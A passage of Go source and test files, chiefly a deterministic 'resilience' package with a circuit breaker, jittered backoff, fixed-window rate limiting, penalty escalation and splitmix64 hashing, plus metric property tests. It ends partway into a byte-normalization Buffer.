// Property: Euclidean distance satisfies symmetry, non-negativity, and the
// triangle inequality on random vectors.
func TestEuclideanMetricProperties(t *testing.T) {
	f := func(a, b, c [8]float64) bool {
		ab := mustDist(a[:], b[:])
		ba := mustDist(b[:], a[:])
		ac := mustDist(a[:], c[:])
		cb := mustDist(c[:], b[:])
		if ab < 0 || math.Abs(ab-ba) > 1e-9 {
			return false
		}
		return ab <= ac+cb+1e-9*(1+ab)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func mustDist(a, b []float64) float64 {
	d, err := Euclidean(a, b)
	if err != nil {
		panic(err)
	}
	return d
}

// Property: standardizing twice is idempotent for non-constant columns.
func TestStandardizeIdempotent(t *testing.T) {
	f := func(seed [12]float64) bool {
		m, err := NewFromRows([][]float64{seed[0:3], seed[3:6], seed[6:9], seed[9:12]})
		if err != nil {
			return false
		}
		for _, v := range seed {
			if math.IsNaN(v) || math.IsInf(v, 0) || math.Abs(v) > 1e100 {
				return true // skip pathological inputs
			}
		}
		s1, _ := m.Standardize()
		s2, _ := s1.Standardize()
		for i := 0; i < s1.Rows(); i++ {
			for j := 0; j < s1.Cols(); j++ {
				if math.Abs(s1.At(i, j)-s2.At(i, j)) > 1e-6 {
					return false
				}
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Fatal(err)
	}
}
