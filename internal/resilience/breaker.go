package resilience

// BreakerState is a circuit breaker's position.
type BreakerState int

// Breaker states: closed (traffic flows), open (fail fast), half-open
// (one probe allowed).
const (
	BreakerClosed BreakerState = iota
	BreakerOpen
	BreakerHalfOpen
)

// String names the state for logs.
func (s BreakerState) String() string {
	switch s {
	case BreakerClosed:
		return "closed"
	case BreakerOpen:
		return "open"
	case BreakerHalfOpen:
		return "half-open"
	}
	return "unknown"
}

// Breaker is a circuit breaker with the classic closed→open→half-open
// state machine, except that the open→half-open transition is driven by
// denied-request count rather than wall time: an open breaker fails fast
// the next cooldown attempts and then admits one probe. Counting requests
// instead of seconds keeps every caller a deterministic function of its
// inputs — no clock seam needed — which is what lets both the crawl chaos
// tests and the gateway chaos tests assert bit-identical outcomes.
//
// A Breaker is not safe for concurrent use; wrap it in a mutex when
// requests arrive concurrently (the gateway does).
type Breaker struct {
	threshold int // consecutive failures that open the breaker; <=0 disables
	cooldown  int // denied attempts while open before half-open

	state     BreakerState
	failures  int // consecutive failures while closed
	remaining int // denials left while open
}

// NewBreaker returns a closed breaker. threshold <= 0 disables it (Allow
// always true, Failure never trips).
func NewBreaker(threshold, cooldown int) *Breaker {
	return &Breaker{threshold: threshold, cooldown: cooldown}
}

// State returns the breaker's current position.
func (b *Breaker) State() BreakerState { return b.state }

// Allow reports whether a request may proceed. While open it consumes one
// denial; when the denial budget is spent the breaker moves to half-open
// and admits the probe.
func (b *Breaker) Allow() bool {
	if b.threshold <= 0 {
		return true
	}
	switch b.state {
	case BreakerOpen:
		if b.remaining > 0 {
			b.remaining--
			return false
		}
		b.state = BreakerHalfOpen
		return true
	default: // closed or half-open (the probe)
		return true
	}
}

// Success records a successful request: any state collapses to closed.
func (b *Breaker) Success() {
	b.state = BreakerClosed
	b.failures = 0
}

// Failure records a failed request and reports whether the breaker
// tripped (transitioned to open) as a result. A half-open probe failure
// re-opens immediately; a closed breaker opens after threshold
// consecutive failures.
func (b *Breaker) Failure() (tripped bool) {
	if b.threshold <= 0 {
		return false
	}
	switch b.state {
	case BreakerHalfOpen:
		b.state = BreakerOpen
		b.remaining = b.cooldown
		return true
	case BreakerClosed:
		b.failures++
		if b.failures >= b.threshold {
			b.state = BreakerOpen
			b.remaining = b.cooldown
			b.failures = 0
			return true
		}
	}
	return false
}

// BreakerSnapshot is a breaker's serializable state, carried inside crawl
// checkpoints so a resumed crawl continues with the same breaker position.
type BreakerSnapshot struct {
	State     BreakerState `json:"state"`
	Failures  int          `json:"failures"`
	Remaining int          `json:"remaining"`
}

// Snapshot captures the breaker's state.
func (b *Breaker) Snapshot() BreakerSnapshot {
	return BreakerSnapshot{State: b.state, Failures: b.failures, Remaining: b.remaining}
}

// Restore installs a snapshot, overwriting the current state.
func (b *Breaker) Restore(s BreakerSnapshot) {
	b.state = s.State
	b.failures = s.Failures
	b.remaining = s.Remaining
}
