package resilience

import (
	"testing"
	"testing/quick"
	"time"
)

// TestBreakerSnapshotRoundTripProperty: for ANY reachable breaker state —
// driven there by an arbitrary operation sequence — Snapshot/Restore into
// a fresh breaker yields a behavioral clone: both breakers answer every
// subsequent operation identically. This is the property crawl
// checkpoints rely on; the example-based tests only pin a few states.
func TestBreakerSnapshotRoundTripProperty(t *testing.T) {
	// ops drive the breaker: 0 = Allow, 1 = Failure, 2 = Success.
	f := func(threshold, cooldown uint8, ops []uint8) bool {
		b := NewBreaker(int(threshold%8), int(cooldown%8))
		for _, op := range ops {
			switch op % 3 {
			case 0:
				b.Allow()
			case 1:
				b.Failure()
			case 2:
				b.Success()
			}
		}
		clone := NewBreaker(int(threshold%8), int(cooldown%8))
		clone.Restore(b.Snapshot())
		if clone.Snapshot() != b.Snapshot() {
			return false
		}
		// Behavioral equivalence over a probing tail: enough operations to
		// cross every transition from wherever the sequence left us.
		for i := 0; i < 64; i++ {
			switch i % 4 {
			case 0, 1:
				if b.Allow() != clone.Allow() {
					return false
				}
			case 2:
				if b.Failure() != clone.Failure() {
					return false
				}
			case 3:
				if b.State() != clone.State() {
					return false
				}
			}
		}
		return b.Snapshot() == clone.Snapshot()
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

// TestBackoffFullJitterDistribution pins the *distribution* of the full
// jitter, not just its range: over many draws the delays must fill
// [0, span) roughly uniformly — low and high quartiles both populated and
// the mean near span/2. A jitter collapsing toward either edge (the
// classic off-by-one that turns full jitter into no jitter) fails here
// while still passing pure bounds checks.
func TestBackoffFullJitterDistribution(t *testing.T) {
	const (
		base    = 100 * time.Millisecond
		max     = 10 * time.Second
		attempt = 3 // base<<3 = 800ms, below max
		span    = 800 * time.Millisecond
		n       = 20000
	)
	rng := NewSplitMix64(99)
	var sum time.Duration
	var q1, q4 int // draws in the lowest and highest quartile
	for i := 0; i < n; i++ {
		d := Backoff(rng, base, max, attempt)
		if d < 0 || d >= span {
			t.Fatalf("draw %d: %v outside [0, %v)", i, d, span)
		}
		sum += d
		if d < span/4 {
			q1++
		}
		if d >= 3*span/4 {
			q4++
		}
	}
	mean := sum / n
	if mean < 2*span/5 || mean > 3*span/5 {
		t.Fatalf("mean %v outside [%v, %v]: jitter is not uniform", mean, 2*span/5, 3*span/5)
	}
	// Each quartile holds ~25%; 20% slack either way catches edge collapse
	// without flaking on a fixed seed (the draw sequence is deterministic,
	// so this never actually varies run to run).
	for name, q := range map[string]int{"low": q1, "high": q4} {
		frac := float64(q) / n
		if frac < 0.20 || frac > 0.30 {
			t.Fatalf("%s quartile holds %.1f%% of draws, want ~25%%", name, 100*frac)
		}
	}
}

// TestBackoffSaturatedDistribution: once the shift passes max, draws are
// uniform in [0, max) — saturation must not skew the jitter.
func TestBackoffSaturatedDistribution(t *testing.T) {
	rng := NewSplitMix64(7)
	const n = 10000
	max := 2 * time.Second
	var sum time.Duration
	for i := 0; i < n; i++ {
		d := Backoff(rng, time.Second, max, 60) // 1s<<60 overflows → max
		if d < 0 || d >= max {
			t.Fatalf("saturated draw %v outside [0, %v)", d, max)
		}
		sum += d
	}
	mean := sum / n
	if mean < 2*max/5 || mean > 3*max/5 {
		t.Fatalf("saturated mean %v not centered in [0, %v)", mean, max)
	}
}
