package resilience

import "testing"

func TestBreakerStateMachine(t *testing.T) {
	b := NewBreaker(3, 2)

	// Closed: failures below the threshold keep traffic flowing.
	for i := 0; i < 2; i++ {
		if !b.Allow() {
			t.Fatalf("closed breaker denied request %d", i)
		}
		if b.Failure() {
			t.Fatalf("failure %d tripped early", i+1)
		}
	}
	if !b.Allow() {
		t.Fatal("closed breaker denied request at threshold-1 failures")
	}
	if !b.Failure() {
		t.Fatal("threshold-th consecutive failure must trip the breaker")
	}
	if b.State() != BreakerOpen {
		t.Fatalf("state = %v, want open", b.State())
	}

	// Open: exactly cooldown denials, then a half-open probe.
	for i := 0; i < 2; i++ {
		if b.Allow() {
			t.Fatalf("open breaker allowed request %d during cooldown", i)
		}
	}
	if !b.Allow() {
		t.Fatal("cooldown spent: the probe must be admitted")
	}
	if b.State() != BreakerHalfOpen {
		t.Fatalf("state = %v, want half-open", b.State())
	}

	// A failed probe re-opens immediately.
	if !b.Failure() {
		t.Fatal("half-open probe failure must re-trip")
	}
	if b.State() != BreakerOpen {
		t.Fatalf("state after failed probe = %v, want open", b.State())
	}

	// Spend the new cooldown; a successful probe closes the breaker.
	for b.State() == BreakerOpen {
		b.Allow()
	}
	b.Success()
	if b.State() != BreakerClosed {
		t.Fatalf("state after successful probe = %v, want closed", b.State())
	}

	// Success resets the consecutive-failure count.
	b.Failure()
	b.Success()
	for i := 0; i < 2; i++ {
		if b.Failure() {
			t.Fatalf("failure %d after reset tripped early", i+1)
		}
	}
}

func TestBreakerDisabled(t *testing.T) {
	b := NewBreaker(0, 5)
	for i := 0; i < 20; i++ {
		if b.Failure() {
			t.Fatal("disabled breaker tripped")
		}
		if !b.Allow() {
			t.Fatal("disabled breaker denied a request")
		}
	}
}

func TestBreakerStateStrings(t *testing.T) {
	for s, want := range map[BreakerState]string{
		BreakerClosed:   "closed",
		BreakerOpen:     "open",
		BreakerHalfOpen: "half-open",
		BreakerState(9): "unknown",
	} {
		if got := s.String(); got != want {
			t.Fatalf("BreakerState(%d).String() = %q, want %q", int(s), got, want)
		}
	}
}

func TestBreakerSnapshotRestore(t *testing.T) {
	b := NewBreaker(2, 3)
	b.Failure()
	b.Failure() // trips: open with remaining=3
	b.Allow()   // one denial spent

	snap := b.Snapshot()
	if snap.State != BreakerOpen || snap.Remaining != 2 {
		t.Fatalf("snapshot = %+v, want open with 2 remaining", snap)
	}

	restored := NewBreaker(2, 3)
	restored.Restore(snap)
	if restored.Allow() || restored.Allow() {
		t.Fatal("restored breaker should deny its remaining cooldown")
	}
	if !restored.Allow() {
		t.Fatal("restored breaker should admit the probe after cooldown")
	}
	if restored.State() != BreakerHalfOpen {
		t.Fatalf("state = %v, want half-open", restored.State())
	}
}
