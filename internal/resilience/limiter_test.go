package resilience

import (
	"testing"
	"time"
)

func TestWindowFixedWindowSemantics(t *testing.T) {
	var w Window
	const width = int64(time.Second)
	// 3 allowed per window, 4th rejected.
	base := 10 * int64(time.Second)
	for i := 0; i < 3; i++ {
		if !w.Allow(base+int64(i), 3, width) {
			t.Fatalf("request %d within limit rejected", i)
		}
	}
	if w.Allow(base+3, 3, width) {
		t.Fatal("request over limit allowed")
	}
	if got := w.Count(base+3, width); got != 4 {
		t.Fatalf("count %d, want 4 (rejections are recorded too)", got)
	}
	// Crossing the window boundary resets the counter.
	next := base + width
	if !w.Allow(next, 3, width) {
		t.Fatal("first request of the next window rejected")
	}
	if got := w.Count(next, width); got != 1 {
		t.Fatalf("count after rollover %d, want 1", got)
	}
}

func TestWindowDisabledAndDegenerate(t *testing.T) {
	var w Window
	for i := int64(0); i < 100; i++ {
		if !w.Allow(i, 0, int64(time.Second)) {
			t.Fatal("limit 0 must disable the tier")
		}
	}
	if got := w.Count(0, int64(time.Second)); got != 0 {
		t.Fatalf("disabled tier recorded %d requests", got)
	}
	// width <= 0 degrades to per-nanosecond windows rather than dividing
	// by zero.
	var w2 Window
	if !w2.Allow(5, 1, 0) || w2.Allow(5, 1, 0) {
		t.Fatal("zero-width window must still count within one nanosecond")
	}
}

func TestWindowNegativeTime(t *testing.T) {
	// Synthetic chaos clocks may start near zero and step backwards across
	// it; floor division keeps window ordinals consistent below the epoch.
	var w Window
	const width = int64(100)
	if !w.Allow(-150, 1, width) {
		t.Fatal("first request rejected")
	}
	if w.Allow(-101, 1, width) {
		t.Fatal("-150 and -101 share the [-200,-100) window; second must be rejected")
	}
	if !w.Allow(-100, 1, width) {
		t.Fatal("-100 starts a fresh window")
	}
}

func TestWindowReset(t *testing.T) {
	const width = int64(time.Second)
	if got := WindowReset(0, width); got != width {
		t.Fatalf("reset at window start: %d, want %d", got, width)
	}
	if got := WindowReset(width-1, width); got != 1 {
		t.Fatalf("reset one nanosecond before rollover: %d, want 1", got)
	}
	if got := WindowReset(-1, width); got != 1 {
		t.Fatalf("reset just below the epoch: %d, want 1", got)
	}
}

func TestPenaltyEscalatesDeterministically(t *testing.T) {
	const seed = uint64(0xfeed)
	base, max := 10*time.Second, 10*time.Minute
	prev := time.Duration(0)
	for strike := 1; strike <= 12; strike++ {
		d := Penalty(seed, strike, base, max)
		// Jitter bounds: [nominal/2, nominal).
		nominal := base << uint(strike-1)
		if nominal > max || nominal <= 0 {
			nominal = max
		}
		if d < nominal/2 || d >= nominal {
			t.Fatalf("strike %d: duration %v outside [%v, %v)", strike, d, nominal/2, nominal)
		}
		if again := Penalty(seed, strike, base, max); again != d {
			t.Fatalf("strike %d: %v then %v from identical inputs", strike, d, again)
		}
		if strike > 1 && nominal < max && d <= prev/2 {
			t.Fatalf("strike %d: duration %v did not escalate over %v", strike, d, prev)
		}
		prev = d
	}
	// Saturation: absurd strike counts stay within [max/2, max) instead of
	// overflowing the shift.
	if d := Penalty(seed, 1_000_000, base, max); d < max/2 || d >= max {
		t.Fatalf("saturated penalty %v outside [%v, %v)", d, max/2, max)
	}
}

func TestPenaltySeedsDecorrelate(t *testing.T) {
	base, max := time.Second, time.Hour
	a := Penalty(1, 5, base, max)
	b := Penalty(2, 5, base, max)
	if a == b {
		t.Fatalf("adjacent seeds drew identical jitter (%v); avalanche not applied", a)
	}
}
