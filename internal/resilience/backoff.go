package resilience

import "time"

// Backoff computes the exponential-backoff-with-full-jitter delay for a
// retry: uniform in [0, min(max, base·2^attempt)), drawn from rng. The
// shift saturates to max on overflow, so arbitrarily late attempts stay
// bounded. Callers own the rng, so a retry loop's delays are a
// deterministic function of its seed.
func Backoff(rng *SplitMix64, base, max time.Duration, attempt int) time.Duration {
	d := base << uint(attempt)
	if d > max || d <= 0 {
		d = max
	}
	return time.Duration(rng.Float64() * float64(d))
}
