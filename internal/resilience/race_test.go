package resilience

// Race coverage for the primitives the serving layers wrap in mutexes.
// Breaker and SplitMix64 are single-threaded by contract; the gateway,
// admission and fleet packages all drive them from concurrent requests
// through a mutex. These tests exercise exactly that wrapping pattern
// under `go test -race` (the race-parallel Makefile target), so a
// regression that widens a critical section or sneaks in an unguarded
// read fails here rather than in a production fleet.

import (
	"math"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// TestBreakerHalfOpenProbeRace hammers a mutex-wrapped breaker with the
// serving pattern: Allow under the lock, outcome reported under a later
// lock acquisition — so half-open probes from different goroutines
// genuinely interleave with other Allow calls, the way fleet replica
// health checks interleave with live dispatches. Invariants: every call
// is either admitted or denied (the books balance), the observed state is
// always a legal member of the three-state machine, and the final
// snapshot is internally consistent.
func TestBreakerHalfOpenProbeRace(t *testing.T) {
	var mu sync.Mutex
	b := NewBreaker(1, 4)
	mu.Lock()
	b.Failure() // threshold 1: trip straight to open
	mu.Unlock()

	const workers = 16
	const iters = 500
	var admitted, denied, tripped atomic.Int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < iters; i++ {
				mu.Lock()
				ok := b.Allow()
				st := b.State()
				mu.Unlock()
				if st != BreakerClosed && st != BreakerOpen && st != BreakerHalfOpen {
					t.Errorf("illegal breaker state %d", st)
					return
				}
				if !ok {
					denied.Add(1)
					continue
				}
				admitted.Add(1)
				// Report the probe's outcome in a separate critical
				// section, deterministically mixed: roughly a third of
				// probes succeed, the rest re-trip the breaker.
				mu.Lock()
				if (w+i)%3 == 0 {
					b.Success()
				} else if b.Failure() {
					tripped.Add(1)
				}
				mu.Unlock()
			}
		}(w)
	}
	wg.Wait()

	if got := admitted.Load() + denied.Load(); got != workers*iters {
		t.Fatalf("books do not balance: %d outcomes for %d calls", got, workers*iters)
	}
	if admitted.Load() == 0 || denied.Load() == 0 {
		t.Fatalf("storm did not exercise both paths: admitted=%d denied=%d", admitted.Load(), denied.Load())
	}
	if tripped.Load() == 0 {
		t.Fatal("no half-open probe failure ever re-tripped the breaker")
	}
	mu.Lock()
	snap := b.Snapshot()
	mu.Unlock()
	if snap.Remaining < 0 || snap.Remaining > 4 {
		t.Fatalf("final cooldown budget %d outside [0,4]", snap.Remaining)
	}
	if snap.State == BreakerOpen && snap.Failures != 0 {
		t.Fatalf("open breaker carrying %d consecutive-failure count", snap.Failures)
	}
}

// TestBreakerSnapshotRestoreRace interleaves Snapshot/Restore (the crawl
// checkpoint path) with serving traffic, all under the wrapping mutex:
// restored state must always be one the breaker actually produced.
func TestBreakerSnapshotRestoreRace(t *testing.T) {
	var mu sync.Mutex
	b := NewBreaker(2, 3)

	var wg sync.WaitGroup
	stop := make(chan struct{})
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; ; i++ {
			select {
			case <-stop:
				return
			default:
			}
			mu.Lock()
			if b.Allow() {
				if i%2 == 0 {
					b.Failure()
				} else {
					b.Success()
				}
			}
			mu.Unlock()
		}
	}()
	for i := 0; i < 2000; i++ {
		mu.Lock()
		snap := b.Snapshot()
		b.Restore(snap)
		after := b.Snapshot()
		mu.Unlock()
		if snap != after {
			t.Fatalf("restore not idempotent: %+v vs %+v", snap, after)
		}
	}
	close(stop)
	wg.Wait()
}

// TestPenaltyStrikeOverflowSaturation pins the overflow edge of the
// escalation: arbitrarily large strike counts — including math.MaxInt,
// where the naive base<<strike would have long overflowed — saturate at
// the cap instead of wrapping negative, and the jittered result always
// lands in [max/2, max). Run from concurrent goroutines to document that
// Penalty is a pure function with no shared state to race on.
func TestPenaltyStrikeOverflowSaturation(t *testing.T) {
	const base = 10 * time.Second
	const max = time.Hour
	strikes := []int{1, 2, 16, 61, 62, 63, 64, 1 << 20, 1 << 40, math.MaxInt}

	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(seed uint64) {
			defer wg.Done()
			for _, strike := range strikes {
				d := Penalty(seed, strike, base, max)
				if d <= 0 {
					t.Errorf("seed %d strike %d: non-positive penalty %v (overflow wrapped)", seed, strike, d)
					return
				}
				if d >= max {
					t.Errorf("seed %d strike %d: penalty %v at or above the cap %v", seed, strike, d, max)
					return
				}
				if strike >= 16 && d < max/2 {
					// Saturated strikes must draw jitter from the cap,
					// not from a wrapped-around doubling.
					t.Errorf("seed %d strike %d: saturated penalty %v below max/2", seed, strike, d)
					return
				}
				// Purity: the same inputs give the same duration on every
				// goroutine, every time.
				if again := Penalty(seed, strike, base, max); again != d {
					t.Errorf("seed %d strike %d: %v then %v — not a pure function", seed, strike, d, again)
					return
				}
			}
		}(uint64(w) + 1)
	}
	wg.Wait()

	// The extreme corner: base == max == the largest representable
	// duration. No doubling is possible; the result must still be a
	// well-formed jittered value, not a panic or a negative wrap.
	huge := time.Duration(math.MaxInt64)
	d := Penalty(42, math.MaxInt, huge, huge)
	if d < huge/2 || d >= huge {
		t.Fatalf("max-duration penalty %v outside [max/2, max)", d)
	}
}
