// Package resilience holds the small deterministic fault-tolerance
// primitives shared by the offline side (internal/crawl's resilient
// fetching, internal/faultify's fault schedules) and the serving side
// (internal/gateway's upstream protection): a seeded splitmix64 generator,
// the FNV-1a+avalanche key hash behind replayable fault schedules,
// exponential-backoff-with-full-jitter, and a request-count circuit
// breaker.
//
// Everything here is a pure function of its inputs: no wall clock, no
// math/rand (the package sits in psigenelint's kernel set, so the
// walltime/randsource/maporder analyzers police it). That is what lets
// both a three-month crawl and a chaos test replay bit-identically from a
// seed, and what keeps the gateway's breaker decisions reproducible in
// its deterministic chaos suite.
package resilience

// SplitMix64 is the tiny seeded generator behind retry jitter and fault
// schedules. It is not safe for concurrent use; give each goroutine its
// own instance.
type SplitMix64 struct{ state uint64 }

// NewSplitMix64 returns a generator seeded with seed.
func NewSplitMix64(seed uint64) *SplitMix64 {
	return &SplitMix64{state: seed}
}

// Next returns the next 64-bit value.
func (r *SplitMix64) Next() uint64 {
	r.state += 0x9e3779b97f4a7c15
	z := r.state
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return z ^ (z >> 31)
}

// Float64 returns a uniform value in [0, 1).
func (r *SplitMix64) Float64() float64 {
	return float64(r.Next()>>11) / (1 << 53)
}

// Avalanche applies the splitmix64 finalizer to h, decorrelating inputs
// that differ only in a few bits. Hash-derived schedule keys need it:
// sibling keys ("GET /advisory/1000" vs "...1001") move raw FNV's top
// bits by only ~2^-24, so without a finalizer whole key families draw
// nearly the same unit float.
func Avalanche(h uint64) uint64 {
	h ^= h >> 30
	h *= 0xbf58476d1ce4e5b9
	h ^= h >> 27
	h *= 0x94d049bb133111eb
	h ^= h >> 31
	return h
}

// HashKey hashes (seed, key) to a well-mixed 64-bit value: FNV-1a over
// the seed's little-endian bytes followed by the key, finished with
// Avalanche. It is the schedule hash behind faultify's per-key fault
// assignment; the exact bit pattern is load-bearing (golden chaos tests
// replay schedules by seed), so treat any change as a format break.
func HashKey(seed int64, key string) uint64 {
	const (
		offset64 = 14695981039346656037
		prime64  = 1099511628211
	)
	h := uint64(offset64)
	s := uint64(seed)
	for i := 0; i < 8; i++ {
		h ^= s & 0xff
		h *= prime64
		s >>= 8
	}
	for i := 0; i < len(key); i++ {
		h ^= uint64(key[i])
		h *= prime64
	}
	return Avalanche(h)
}

// UnitFloat maps a hash to [0, 1) using its top 53 bits.
func UnitFloat(h uint64) float64 {
	return float64(h>>11) / (1 << 53)
}
