package resilience

import "time"

// This file holds the clock-free primitives behind internal/admission's
// per-caller rate limiting: a fixed-window request counter and the
// escalating penalty-box schedule. Both are pure functions of their
// arguments — the caller supplies the current time as nanoseconds and the
// jitter is derived from a seed, never drawn from a shared generator — so
// the abuse-chaos suite can replay exact shed/block/recover sequences and
// psigenelint's walltime/randsource analyzers hold here as everywhere
// else in the kernel set.

// Window is a fixed-window request counter: the time axis is divided into
// consecutive windows of the caller-chosen width, and the counter resets
// whenever the supplied time crosses into a new window. Fixed (rather
// than sliding) windows keep the state two words per tier — essential
// when a bounded LRU tracks millions of callers — and make the reset
// instant a pure function of the clock, which is what lets deterministic
// tests pin the exact request on which a limiter starts rejecting.
//
// The zero value is ready to use. A Window is not safe for concurrent
// use; internal/admission shards callers and guards each shard.
type Window struct {
	idx   int64 // current window ordinal (now / width)
	count int64 // requests recorded inside the current window
}

// Allow records one request at time now (nanoseconds on any monotonic
// scale, e.g. UnixNano of an injected clock) and reports whether the
// request stays within limit requests per width nanoseconds. limit <= 0
// disables the tier (always allowed, nothing recorded); width <= 0 is
// treated as one nanosecond.
func (w *Window) Allow(now int64, limit int64, width int64) bool {
	if limit <= 0 {
		return true
	}
	if width <= 0 {
		width = 1
	}
	idx := floorDiv(now, width)
	if idx != w.idx {
		w.idx = idx
		w.count = 0
	}
	w.count++
	return w.count <= limit
}

// Count returns the requests recorded in the window containing now.
func (w *Window) Count(now, width int64) int64 {
	if width <= 0 {
		width = 1
	}
	if floorDiv(now, width) != w.idx {
		return 0
	}
	return w.count
}

// WindowReset returns the nanoseconds from now until the window of the
// given width rolls over — the precise Retry-After for a fixed-window
// rejection.
func WindowReset(now, width int64) int64 {
	if width <= 0 {
		width = 1
	}
	return (floorDiv(now, width)+1)*width - now
}

// floorDiv is integer division rounding toward negative infinity, so
// window ordinals stay consistent for clocks that start before the epoch
// (chaos tests run on small synthetic timestamps).
func floorDiv(a, b int64) int64 {
	q := a / b
	if a%b < 0 {
		q--
	}
	return q
}

// Penalty returns the strike-th penalty-box duration for the caller
// identified by seed: base·2^(strike-1) capped at max, jittered into
// [d/2, d). The escalation punishes repeat offenders progressively; the
// jitter keeps a fleet of simultaneously-boxed abusers from thundering
// back in the same instant; and deriving the jitter bits from
// (seed, strike) with the splitmix finalizer — instead of drawing from a
// shared generator — keeps every duration a pure function of its inputs,
// so same-seed chaos runs block for bit-identical spans. strike < 1 is
// treated as 1; the shift saturates to max on overflow.
func Penalty(seed uint64, strike int, base, max time.Duration) time.Duration {
	if base <= 0 {
		return 0
	}
	if max < base {
		max = base
	}
	if strike < 1 {
		strike = 1
	}
	d := base
	for i := 1; i < strike && d < max; i++ {
		// Double with an overflow guard: past max/2 the next doubling can
		// only land at or beyond the cap.
		if d > max/2 {
			d = max
			break
		}
		d <<= 1
	}
	if d > max {
		d = max
	}
	f := UnitFloat(Avalanche(seed + uint64(strike)*0x9e3779b97f4a7c15))
	return d/2 + time.Duration(f*float64(d/2))
}
