package resilience

import (
	"testing"
	"time"
)

func TestSplitMix64Deterministic(t *testing.T) {
	a, b := NewSplitMix64(7), NewSplitMix64(7)
	other := NewSplitMix64(8)
	differs := false
	for i := 0; i < 64; i++ {
		va, vb := a.Next(), b.Next()
		if va != vb {
			t.Fatalf("draw %d: same seed, different values: %d vs %d", i, va, vb)
		}
		if other.Next() != va {
			differs = true
		}
	}
	if !differs {
		t.Fatal("seeds 7 and 8 produced identical sequences")
	}
}

func TestSplitMix64Float64Range(t *testing.T) {
	r := NewSplitMix64(3)
	for i := 0; i < 1000; i++ {
		f := r.Float64()
		if f < 0 || f >= 1 {
			t.Fatalf("draw %d: %v outside [0, 1)", i, f)
		}
	}
}

// TestHashKeyGolden pins the exact hash bits: fault schedules replay from
// (seed, key) alone, so a changed hash silently reshuffles every golden
// chaos corpus in the repository.
func TestHashKeyGolden(t *testing.T) {
	// Reference implementation: FNV-1a over seed bytes then key, then the
	// splitmix64 finalizer — duplicated here so drift in either half of
	// HashKey fails loudly.
	ref := func(seed int64, key string) uint64 {
		const (
			offset64 = 14695981039346656037
			prime64  = 1099511628211
		)
		h := uint64(offset64)
		s := uint64(seed)
		for i := 0; i < 8; i++ {
			h ^= s & 0xff
			h *= prime64
			s >>= 8
		}
		for i := 0; i < len(key); i++ {
			h ^= uint64(key[i])
			h *= prime64
		}
		h ^= h >> 30
		h *= 0xbf58476d1ce4e5b9
		h ^= h >> 27
		h *= 0x94d049bb133111eb
		h ^= h >> 31
		return h
	}
	for _, seed := range []int64{0, 1, 42, -7} {
		for _, key := range []string{"", "GET /", "GET /advisory/1000", "GET /advisory/1001"} {
			if got, want := HashKey(seed, key), ref(seed, key); got != want {
				t.Fatalf("HashKey(%d, %q) = %#x, want %#x", seed, key, got, want)
			}
		}
	}
}

// TestHashKeySiblingsDecorrelated is the property the avalanche finalizer
// exists for: keys differing only in trailing bytes must land far apart
// in unit-float space, or whole portals draw one fault class.
func TestHashKeySiblingsDecorrelated(t *testing.T) {
	a := UnitFloat(HashKey(42, "GET /advisory/1000"))
	b := UnitFloat(HashKey(42, "GET /advisory/1001"))
	if d := a - b; d > -1e-3 && d < 1e-3 {
		t.Fatalf("sibling keys drew %v and %v: trailing-byte change barely moved the unit float", a, b)
	}
}

func TestUnitFloatRange(t *testing.T) {
	for _, h := range []uint64{0, 1, 1 << 11, ^uint64(0)} {
		if f := UnitFloat(h); f < 0 || f >= 1 {
			t.Fatalf("UnitFloat(%#x) = %v outside [0, 1)", h, f)
		}
	}
}

func TestBackoffSeededAndBounded(t *testing.T) {
	const (
		base = 250 * time.Millisecond
		max  = 5 * time.Second
	)
	a, b := NewSplitMix64(7), NewSplitMix64(7)
	other := NewSplitMix64(8)
	differs := false
	for attempt := 0; attempt < 8; attempt++ {
		da, db := Backoff(a, base, max, attempt), Backoff(b, base, max, attempt)
		if da != db {
			t.Fatalf("attempt %d: same seed, different jitter: %v vs %v", attempt, da, db)
		}
		if Backoff(other, base, max, attempt) != da {
			differs = true
		}
		bound := base << uint(attempt)
		if bound > max || bound <= 0 {
			bound = max
		}
		if da < 0 || da >= bound {
			t.Fatalf("attempt %d: backoff %v outside [0, %v)", attempt, da, bound)
		}
	}
	if !differs {
		t.Fatal("different seeds produced identical jitter sequences")
	}
}

// TestBackoffOverflowSaturates pins the saturation guard: a shift big
// enough to wrap the duration negative must clamp to max, not go wild.
func TestBackoffOverflowSaturates(t *testing.T) {
	rng := NewSplitMix64(1)
	for _, attempt := range []int{40, 62, 63} {
		d := Backoff(rng, time.Second, 5*time.Second, attempt)
		if d < 0 || d >= 5*time.Second {
			t.Fatalf("attempt %d: backoff %v outside [0, 5s)", attempt, d)
		}
	}
}
