package normalize

import (
	"bytes"
	"strings"
	"unicode"
	"unicode/utf8"
)

// Buffer is the allocation-free normalization path: it owns every
// intermediate buffer of the five-transformation pipeline, so repeated
// Normalize calls on a held Buffer reach a steady state with zero heap
// allocations. The package-level Normalize delegates here, which keeps
// the serving and training paths one implementation — they cannot
// diverge.
//
// A Buffer serves one call at a time (hold one per goroutine or pool
// them); the returned slice aliases the Buffer and is valid until the
// next call.
type Buffer struct {
	prev, mid, next, out []byte
}

// Normalize applies the full five-transformation pipeline to s and
// returns the normalized bytes, borrowed from the Buffer.
func (nb *Buffer) Normalize(s string) []byte {
	nb.prev = append(nb.prev[:0], s...)
	return nb.run()
}

// NormalizeBytes is Normalize for a byte-slice sample. src may not alias
// the Buffer's own storage (i.e. a previous result).
func (nb *Buffer) NormalizeBytes(src []byte) []byte {
	nb.prev = append(nb.prev[:0], src...)
	return nb.run()
}

// run executes the pipeline over nb.prev. Each stage reads one buffer
// and appends into another; the decode stages ping-pong prev/next (mid
// carries the half-step) so the fixpoint comparison still sees the
// previous round.
func (nb *Buffer) run() []byte {
	for i := 0; i < maxDecodePasses; i++ {
		nb.mid = appendURLDecode(nb.mid[:0], nb.prev)
		nb.next = appendUnicodeToASCII(nb.next[:0], nb.mid)
